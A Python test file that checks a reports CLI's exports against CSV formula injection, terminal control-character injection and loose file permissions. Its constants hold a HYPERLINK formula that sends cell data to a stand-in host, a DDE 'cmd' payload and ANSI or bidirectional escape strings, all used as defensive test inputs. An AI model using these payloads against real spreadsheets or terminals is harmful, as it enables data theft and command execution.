"""Exports and the reports CLI are read by spreadsheets and terminals: staff-typed text must
not become a formula, a terminal escape or a reordered line, and exported files are owner-only."""

from __future__ import annotations

import csv
import io
import json
import stat
from datetime import datetime
from zoneinfo import ZoneInfo

from tests.export_support import file_report, reports_cli
from tests.report_support import CONTENT, NEED, PARTY, SUPERVISOR, make_core

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1&B1,"Open the form")'
FORMULAS = {
    CONTENT: FORMULA + " " + CONTENT,
    NEED: "+1+cmd|' /C calc'!A0 " + NEED,
    PARTY: "@SUM(1+1) J.D.",
    "skip": "-2+3 called the nurse afterwards",
    SUPERVISOR: "  =1+2 Ms Rivera",
}
# A terminal escape that turns text red, a bell, a right-to-left override and a carriage return
# that would overwrite the start of the line.
CONTROLS = "\x1b[31mRED\x1b[0m ring\x07 \u202eevil\u202c and\rOVERWRITE"
RAW = ("\x1b", "\x07", "\u202e", "\u202c", "\r")


def _hostile_report(tmp_path, index, replace) -> str:
    core = make_core(tmp_path, index)
    number = file_report(core, replace=replace, name="Pat \x1b]0;pwned\x07Lee")
    stored = core.records.reports.get(number)
    core.records.close()
    return number, stored


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path, index):
    _hostile_report(tmp_path, index, FORMULAS)
    code, out, _ = reports_cli(tmp_path, "export", "--format", "csv")
    assert code == 0
    header, *rows = list(csv.reader(io.StringIO(out, newline="")))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
    row = dict(zip(header, rows[0], strict=True))
    assert row["Content of the communication"] == "'" + FORMULAS[CONTENT]
    assert row["Why no other method was possible"] == "'" + FORMULAS[NEED]
    assert row["Name or initials"] == "'" + FORMULAS[PARTY]
    assert row["Follow-up"] == "'" + FORMULAS["skip"]
    assert row["Immediate supervisor"].startswith("'")
    # Every cell is quoted, so a separator or quote inside a value can't start a new cell.
    assert all(line.startswith('"') for line in out.splitlines() if line)


def test_export_files_are_owner_only_also_when_replacing_a_readable_file(tmp_path, index):
    _hostile_report(tmp_path, index, {})
    existing = tmp_path / "records-request.csv"
    existing.write_text("old export\n")
    existing.chmod(0o644)
    code, _, err = reports_cli(tmp_path, "export", "--format", "csv", "--output", str(existing))
    assert code == 0, err
    assert stat.S_IMODE(existing.stat().st_mode) == 0o600
    assert existing.read_text().startswith('"number"')

    fresh = tmp_path / "new.json"
    code, _, _ = reports_cli(tmp_path, "export", "--format", "json", "--output", str(fresh))
    assert code == 0 and stat.S_IMODE(fresh.stat().st_mode) == 0o600
    assert len(json.loads(fresh.read_text())) == 1
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_unwritable_output_is_a_one_line_error(tmp_path, index):
    _hostile_report(tmp_path, index, {})
    target = tmp_path / "no-such-dir" / "out.csv"
    code, _, err = reports_cli(tmp_path, "export", "--output", str(target))
    assert code == 1 and err.startswith("error: cannot write") and len(err.splitlines()) == 1


def test_no_control_character_reaches_the_terminal(tmp_path, index):
    replace = {
        PARTY: "J.D. " + CONTROLS,
        SUPERVISOR: "Ms \u202eairaM",
        CONTENT: CONTROLS + " " + CONTENT,
    }
    number, stored = _hostile_report(tmp_path, index, replace)
    assert any(CONTROLS in value for _, _, value in stored.fields)  # stored as typed
    outputs = {
        "show": reports_cli(tmp_path, "show", number)[1],
        "list": reports_cli(tmp_path, "list")[1],
        **{
            fmt: reports_cli(tmp_path, "export", "--format", fmt)[1]
            for fmt in ("csv", "json", "html")
        },
    }
    outputs["csv"] = outputs["csv"].replace("\r\n", "\n")  # RFC 4180 line ends are fine
    for name, out in outputs.items():
        assert number in out, name
        for char in RAW:
            assert char not in out, (name, repr(char))
    # Made visible, not silently dropped: the reader sees that something was there.
    assert "\\x1b[31mRED" in outputs["show"] and "\\u202e" in outputs["show"]
    assert "\\x07" in outputs["list"] and "\\u202e" in outputs["list"]
    # JSON stays exact: the escapes parse back to what was stored.
    fields = json.loads(outputs["json"])[0]["fields"]
    assert (
        fields["Name or initials"] == dict((k, v) for _, k, v in stored.fields)["Name or initials"]
    )
    assert "\x1b[31m" in fields["Name or initials"]


def test_machine_formats_carry_iso_8601_times_that_sort(tmp_path, index):
    tz = ZoneInfo("America/New_York")
    core = make_core(tmp_path, index)
    # Out of order, across the change from daylight to standard time.
    moments = [
        datetime(2026, 11, 3, 9, 5, tzinfo=tz),
        datetime(2026, 10, 28, 16, 40, tzinfo=tz),
        datetime(2026, 11, 2, 7, 15, tzinfo=tz),
    ]
    for moment in moments:
        file_report(core, at=moment)
    core.records.close()
    code, out, _ = reports_cli(tmp_path, "export", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    filed = [row["filed_at"] for row in rows]
    parsed = [datetime.fromisoformat(value) for value in filed]
    assert all(p.utcoffset() == p.astimezone(tz).utcoffset() for p in parsed)
    assert sorted(parsed) == sorted(moments)
    assert [datetime.fromisoformat(v) for v in sorted(filed)] == sorted(moments)
    assert filed[0].endswith("-04:00") or filed[0].endswith("-05:00")
    for row in rows:
        event = datetime.fromisoformat(row["event_at"])
        assert event.tzinfo is not None and row["delay_minutes"] == "20"
    records = json.loads(reports_cli(tmp_path, "export", "--format", "json")[1])
    assert [r["filed_at"] for r in records] == filed
